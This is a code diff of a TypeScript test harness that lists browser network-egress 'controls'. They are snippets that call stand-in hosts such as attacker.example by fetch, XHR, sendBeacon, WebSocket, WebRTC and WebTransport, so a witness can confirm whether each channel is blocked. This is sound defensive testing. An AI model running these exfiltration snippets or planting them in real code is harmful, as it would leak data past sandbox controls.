@@ -20,7 +20,7 @@ const proxied = (path: string, channel?: WitnessHit['channel']) => (h: WitnessHi
 export const NETWORK_CONTROLS: Control[] = [
   { channel: 'fetch http', run: `fetch('http://attacker.example/control-fetch', { mode: 'no-cors' }).catch(() => 0)`, seen: proxied('/control-fetch', 'http') },
   { channel: 'fetch https', run: `fetch('https://leaking.via/control-fetch', { mode: 'no-cors' }).catch(() => 0)`, seen: proxied('/control-fetch', 'https') },
-  { channel: 'fetch ip literal (direct TCP)', run: `fetch('http://127.0.0.1:47474/control-ip', { mode: 'no-cors' }).catch(() => 0)`, seen: (h, tag) => h.channel === 'tcp' && h.port === 47474 && ours(h, tag) },
+  { channel: 'fetch ip literal (direct TCP)', run: `fetch('http://${WITNESS_IP}:47474/control-ip', { mode: 'no-cors' }).catch(() => 0)`, seen: (h, tag) => h.channel === 'tcp' && h.port === 47474 && ours(h, tag) },
   { channel: 'XMLHttpRequest', run: `(() => { const x = new XMLHttpRequest(); x.open('GET', 'http://attacker.example/control-xhr'); x.send(); })()`, seen: proxied('/control-xhr') },
   { channel: 'sendBeacon', run: `navigator.sendBeacon('http://attacker.example/control-beacon', 'secret')`, seen: proxied('/control-beacon') },
   { channel: 'WebSocket ws', run: `new WebSocket('ws://attacker.example/control-ws').onerror = () => 0`, seen: proxied('/control-ws', 'ws') },
@@ -29,7 +29,7 @@ export const NETWORK_CONTROLS: Control[] = [
   {
     channel: 'RTCPeerConnection STUN/TURN',
     run: `(() => {
-      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }, { urls: 'turn:127.0.0.1:3478?transport=tcp', username: 'u', credential: 'c' }] });
+      const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:${WITNESS_IP}:3478' }, { urls: 'turn:${WITNESS_IP}:3478?transport=tcp', username: 'u', credential: 'c' }] });
       pc.createDataChannel('d'); pc.createOffer().then((o) => pc.setLocalDescription(o)); setTimeout(() => pc.close(), 4000);
     })()`,
     seen: (h, tag) => h.channel === 'udp' && h.port === 3478 && ours(h, tag),
@@ -56,7 +56,7 @@ export const NETWORK_CONTROLS: Control[] = [
 export const webTransportControl = (port: number): Control => ({
   channel: 'WebTransport (QUIC to a UDP witness)',
   https: true,
-  run: `new Promise((resolve) => { const t = new WebTransport('https://127.0.0.1:${port}/control-wt'); t.closed.catch(() => 0); t.ready.then(resolve, resolve); setTimeout(resolve, 8000); })`,
+  run: `new Promise((resolve) => { const t = new WebTransport('https://${WITNESS_IP}:${port}/control-wt'); t.closed.catch(() => 0); t.ready.then(resolve, resolve); setTimeout(resolve, 8000); })`,
   seen: (h) => h.channel === 'udp' && h.via === 'socket' && h.port === port,
 });
 
